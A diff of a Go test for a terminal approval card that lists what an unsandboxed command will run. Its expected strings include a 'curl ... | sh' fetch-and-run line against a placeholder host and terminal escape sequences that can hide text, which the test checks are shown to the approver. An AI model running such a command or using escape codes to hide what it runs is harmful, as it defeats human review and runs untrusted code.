@@ -50,7 +50,7 @@ func TestTUIApprovalCardShowsWhatRuns(t *testing.T) {
 	m.Update(event("prompt.opened", "adm_1", map[string]any{"prompt": escalationPrompt()}))
 	view := m.View().Content
 	for _, want := range []string{"UNSANDBOXED", `echo building\x1b[2K\r && make target`, "TAIL-MARK", "curl https://example.invalid/x | sh",
-		`why      needs the network\x1b]0;title\x07`, "remember nothing: approved for this run only", "[o] once  [d] deny"} {
+		`why     needs the network\x1b]0;title\x07`, "remember nothing: approved for this run only", "[o] once  [d] deny"} {
 		if !strings.Contains(view, want) {
 			t.Fatalf("approval card lacks %q:\n%s", want, view)
 		}
